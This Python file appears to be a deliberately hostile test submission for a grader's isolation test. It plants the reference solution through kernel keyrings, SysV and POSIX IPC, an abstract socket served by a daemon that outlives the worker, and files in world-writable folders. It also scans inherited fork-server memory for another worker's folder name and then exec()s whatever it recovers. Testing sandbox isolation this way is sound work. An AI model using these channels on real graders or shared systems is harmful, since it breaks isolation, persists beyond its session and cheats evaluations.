"""A submission that leaves state in the kernel for the next worker, and looks for what an
earlier worker left (issue 22, point 2; graded by ``tests/test_worker_state.py``).

At load time it first LOOKS through every channel, then (given a payload) PLANTS through each. The test prepends
``TAG`` (names every planted object), ``PAYLOAD`` (the planter's copy only: the reference
solution's source) and ``NEEDLE`` (two halves of the planter's folder name, which the finder
looks for in its own memory, inherited from the fork server). Whatever payload it finds, it
executes: any point it earns came through a channel. One line per step and channel:

    probe look <channel>: absent | FOUND <how many bytes> | refused <errno name>
    probe plant <channel>: planted | refused <errno name> | failed <why>

The raw syscalls go through ``ctypes``, as an attacker's would; nothing here needs the grader.
"""
import ctypes
import errno as _errno
import os as _os
import platform as _platform
import socket as _socket
import stat as _stat
import time as _time

_PAYLOAD = globals().get("PAYLOAD", "").encode()
_TAG = globals()["TAG"]
_NEEDLE = globals().get("NEEDLE")
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
_NR = {"x86_64": {"add_key": 248, "request_key": 249, "keyctl": 250},
       "aarch64": {"add_key": 217, "request_key": 218, "keyctl": 219}}[_platform.machine()]
_RINGS = {"session-keyring": -3, "user-keyring": -4, "user-session-keyring": -5}
_SYSV_KEY = 0x5047_0000 + sum(_TAG.encode()) % 0xFFFF
_NAME = f"/{_TAG}-posix"        # POSIX shm and mqueue names
_ABSTRACT = f"\0{_TAG}".encode()
_found: list[bytes] = []


class _Refused(Exception):
    pass


def _fail(what):
    err = ctypes.get_errno()
    raise _Refused(_errno.errorcode.get(err, str(err))) if err in (_errno.EPERM, _errno.EACCES,
                                                                  _errno.ENOSYS) \
        else OSError(err, f"{what}: {_os.strerror(err)}")


def _L(value):
    return ctypes.c_long(value)


# -- keyrings ---------------------------------------------------------------------------
def _key_plant(ring):
    data = _PAYLOAD
    if _libc.syscall(_L(_NR["add_key"]), b"user", _TAG.encode(), data, _L(len(data)),
                     _L(ring)) < 0:
        _fail("add_key")


def _key_look(ring):
    serial = _libc.syscall(_L(_NR["keyctl"]), _L(10), _L(ring), b"user", _TAG.encode(), _L(0))
    if serial < 0:
        if ctypes.get_errno() == _errno.ENOKEY:
            return None
        _fail("keyctl search")
    buf = ctypes.create_string_buffer(1 << 16)
    size = _libc.syscall(_L(_NR["keyctl"]), _L(11), _L(serial), buf, _L(len(buf)))
    if size < 0:
        _fail("keyctl read")
    return buf.raw[:size]


# -- SysV IPC -------------------------------------------------------------------------------
def _shm_plant():
    ident = _libc.shmget(_SYSV_KEY, 1 << 16, 0o1000 | 0o666)      # IPC_CREAT
    if ident < 0:
        _fail("shmget")
    where = _libc.shmat(ident, None, 0)
    if where in (None, ctypes.c_void_p(-1).value):
        _fail("shmat")
    data = len(_PAYLOAD).to_bytes(4, "little") + _PAYLOAD
    ctypes.memmove(where, data, len(data))
    _libc.shmdt(ctypes.c_void_p(where))


def _shm_look():
    ident = _libc.shmget(_SYSV_KEY, 0, 0)
    if ident < 0:
        if ctypes.get_errno() == _errno.ENOENT:
            return None
        _fail("shmget")
    where = _libc.shmat(ident, None, 0o10000)                      # SHM_RDONLY
    if where in (None, ctypes.c_void_p(-1).value):
        _fail("shmat")
    size = int.from_bytes(ctypes.string_at(where, 4), "little")
    data = ctypes.string_at(where + 4, min(size, (1 << 16) - 4))
    _libc.shmdt(ctypes.c_void_p(where))
    return data


class _Msg(ctypes.Structure):
    _fields_ = [("mtype", ctypes.c_long), ("mtext", ctypes.c_char * 8192)]


def _msg_plant():
    ident = _libc.msgget(_SYSV_KEY, 0o1000 | 0o666)
    if ident < 0:
        _fail("msgget")
    msg = _Msg(1, _PAYLOAD[:8192])
    if _libc.msgsnd(ident, ctypes.byref(msg), ctypes.c_size_t(len(_PAYLOAD[:8192])),
                    0o4000) < 0:                                     # IPC_NOWAIT
        _fail("msgsnd")


def _msg_look():
    ident = _libc.msgget(_SYSV_KEY, 0)
    if ident < 0:
        if ctypes.get_errno() == _errno.ENOENT:
            return None
        _fail("msgget")
    msg = _Msg()
    size = _libc.msgrcv(ident, ctypes.byref(msg), ctypes.c_size_t(8192), _L(0), 0o4000)
    if size < 0:
        return b"" if ctypes.get_errno() == _errno.ENOMSG else _fail("msgrcv")
    return msg.mtext[:size]


def _sem_plant():
    ident = _libc.semget(_SYSV_KEY, 1, 0o1000 | 0o666)
    if ident < 0:
        _fail("semget")
    if _libc.semctl(ident, 0, 16, ctypes.c_int(4242)) < 0:          # SETVAL
        _fail("semctl")


def _sem_look():
    ident = _libc.semget(_SYSV_KEY, 1, 0)
    if ident < 0:
        if ctypes.get_errno() == _errno.ENOENT:
            return None
        _fail("semget")
    value = _libc.semctl(ident, 0, 12)                                # GETVAL
    return f"semaphore value {value}".encode()


# -- POSIX shared memory and message queues -------------------------------------------------
def _posix_shm_plant():
    import _posixshmem

    fd = _posixshmem.shm_open(_NAME, _os.O_CREAT | _os.O_RDWR, 0o666)
    _os.write(fd, _PAYLOAD)
    _os.fchmod(fd, 0o666)
    _os.close(fd)


def _posix_shm_look():
    import _posixshmem

    try:
        fd = _posixshmem.shm_open(_NAME, _os.O_RDONLY, 0)
    except FileNotFoundError:
        return None
    try:
        return _os.read(fd, 1 << 16)
    finally:
        _os.close(fd)


class _MqAttr(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long),
                ("msgsize", ctypes.c_long), ("curmsgs", ctypes.c_long),
                ("pad", ctypes.c_long * 4)]


def _mq_plant():
    data = (_PAYLOAD)[:8192]
    attr = _MqAttr(0, 1, 8192, 0)
    mqd = _libc.mq_open(_NAME.encode(), _os.O_CREAT | _os.O_RDWR | _os.O_NONBLOCK,
                        ctypes.c_uint(0o666), ctypes.byref(attr))
    if mqd < 0:
        _fail("mq_open")
    if _libc.mq_send(mqd, data, ctypes.c_size_t(len(data)), ctypes.c_uint(0)) < 0:
        _fail("mq_send")


def _mq_look():
    mqd = _libc.mq_open(_NAME.encode(), _os.O_RDONLY | _os.O_NONBLOCK)
    if mqd < 0:
        if ctypes.get_errno() == _errno.ENOENT:
            return None
        _fail("mq_open")
    buf = ctypes.create_string_buffer(8192)
    size = _libc.mq_receive(mqd, buf, ctypes.c_size_t(8192), None)
    return buf.raw[:size] if size >= 0 else b""


# -- an abstract unix socket, served by a daemon --------------------------------------------
def _abstract_plant():
    server = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    server.bind(_ABSTRACT)
    server.listen(4)
    if _os.fork() == 0:                  # a daemon that outlives the worker, if it can
        try:
            _os.setsid()
            if _os.fork() == 0:
                deadline = _time.monotonic() + 600
                server.settimeout(1)
                while _time.monotonic() < deadline:
                    try:
                        conn, _ = server.accept()
                    except OSError:
                        continue
                    conn.sendall(_PAYLOAD)
                    conn.close()
        finally:
            _os._exit(0)
    server.close()


def _abstract_look():
    client = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    client.settimeout(2)
    try:
        client.connect(_ABSTRACT)
    except (ConnectionRefusedError, FileNotFoundError):
        return None
    chunks = []
    while chunk := client.recv(1 << 16):
        chunks.append(chunk)
    return b"".join(chunks)


# -- files in every folder the worker can write ---------------------------------------------
def _writable_folders():
    """The world-writable folders among /tmp, /dev/shm, the other shared folders, the mount
    points of every writable mount and the folders directly inside them; and (not as root)
    the working folder."""
    roots = {"/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue"}
    with open("/proc/self/mounts") as fh:
        for line in fh:
            fields = line.split()
            if len(fields) > 3 and "rw" in fields[3].split(",") and fields[2] not in (
                    "proc", "sysfs", "cgroup", "cgroup2", "devpts", "mqueue", "bpf"):
                roots.add(fields[1].replace("\\040", " "))
    found = {_os.getcwd()} if _os.getuid() else set()
    for root in roots:
        try:
            if not _stat.S_ISDIR(_os.lstat(root).st_mode):
                continue
        except OSError:
            continue
        if _os.lstat(root).st_mode & 0o002:
            found.add(root)
        try:
            with _os.scandir(root) as entries:
                for entry in entries:
                    try:
                        if entry.is_dir(follow_symlinks=False) and \
                                entry.stat(follow_symlinks=False).st_mode & 0o002:
                            found.add(entry.path)
                    except OSError:
                        pass
        except OSError:
            pass
    return sorted(f for f in found if _os.access(f, _os.W_OK | _os.X_OK))


def _files_plant():
    planted = 0
    for folder in _writable_folders():
        try:
            with open(_os.path.join(folder, _TAG + "-any"), "wb") as fh:
                fh.write(_PAYLOAD)
            _os.chmod(fh.name, 0o644)
            print(f"probe planted-in {folder}", flush=True)
            planted += 1
        except OSError:
            pass
    if not planted:
        raise _Refused("EACCES")


def _files_look():
    for folder in _writable_folders():
        try:
            with open(_os.path.join(folder, _TAG + "-any"), "rb") as fh:
                return fh.read()
        except OSError:
            pass
    return None


def _file_plant(folder):
    def plant():
        with open(_os.path.join(folder, _TAG + "-" + folder.strip("/").replace("/", "-")),
                  "wb") as fh:
            fh.write(_PAYLOAD)
        _os.chmod(fh.name, 0o644)
    return plant


def _file_look(folder):
    def look():
        try:
            with open(_os.path.join(folder, _TAG + "-" + folder.strip("/").replace("/", "-")),
                      "rb") as fh:
                return fh.read()
        except FileNotFoundError:
            return None
    return look


# -- memory inherited from the fork server --------------------------------------------------
def _memory_look():
    """Search this process's anonymous memory (a snapshot: a forked child reads it) for the
    planter's folder name, without ever holding that name whole itself."""
    if not _NEEDLE:
        return None
    import re

    first, rest = re.compile(re.escape(_NEEDLE[0].encode())), _NEEDLE[1].encode()
    read_end, write_end = _os.pipe()
    pid = _os.fork()
    if pid == 0:     # allocates nothing per chunk: freeing could unmap a region still listed
        hit = b"-"
        try:
            buf = ctypes.create_string_buffer(1 << 20)
            view = memoryview(buf).cast("B")
            with open("/proc/self/maps") as fh:
                regions = fh.read().splitlines()
            for line in regions:
                fields = line.split()
                name = fields[5] if len(fields) > 5 else ""
                if not fields[1].startswith("r") or name not in ("", "[heap]", "[stack]"):
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                for at in range(start, end, (1 << 20) - 256):
                    size = min(1 << 20, end - at)
                    ctypes.memmove(buf, at, size)
                    for match in first.finditer(view, 0, size):
                        if view[match.end():match.end() + len(rest)] == rest:
                            hit = b"+"
                            break
                    if hit == b"+":
                        break
                if hit == b"+":
                    break
            _os.write(write_end, hit)
        finally:
            _os._exit(0)
    _os.close(write_end)
    answer = _os.read(read_end, 1)
    _os.close(read_end)
    _os.waitpid(pid, 0)
    if answer == b"-":
        return None
    if answer == b"+":
        return b"the planter's folder name"
    raise OSError("the memory scan crashed")


_CHANNELS = {
    **{name: (lambda r=ring: _key_plant(r), lambda r=ring: _key_look(r))
       for name, ring in _RINGS.items()},
    "sysv-shm": (_shm_plant, _shm_look),
    "sysv-msg": (_msg_plant, _msg_look),
    "sysv-sem": (_sem_plant, _sem_look),
    "posix-shm": (_posix_shm_plant, _posix_shm_look),
    "posix-mqueue": (_mq_plant, _mq_look),
    "abstract-socket": (_abstract_plant, _abstract_look),
    "dev-shm-file": (_file_plant("/dev/shm"), _file_look("/dev/shm")),
    "tmp-file": (_file_plant("/tmp"), _file_look("/tmp")),
    "writable-folders": (_files_plant, _files_look),
    "inherited-memory": (None, _memory_look),
}


def _run(step, channel, action):
    try:
        result = action()
    except _Refused as exc:
        return f"refused {exc}"
    except Exception as exc:  # noqa: BLE001 - every failure is a line of the report
        return f"failed {type(exc).__name__}: {str(exc)[:80]}"
    if step == "plant":
        return "planted"
    if result is None:
        return "absent"
    _found.append(result)
    return f"FOUND {len(result)} bytes"


print(f"probe uid {_os.getuid()}", flush=True)
for _channel, (_plant, _look) in _CHANNELS.items():
    print(f"probe look {_channel}: {_run('look', _channel, _look)}", flush=True)
for _channel, (_plant, _look) in _CHANNELS.items():
    if _plant is not None and _PAYLOAD:
        print(f"probe plant {_channel}: {_run('plant', _channel, _plant)}", flush=True)
for _data in _found:
    try:
        exec(_data.decode(), globals())
    except Exception:  # noqa: BLE001 - not all of it is code (a semaphore's value)
        pass
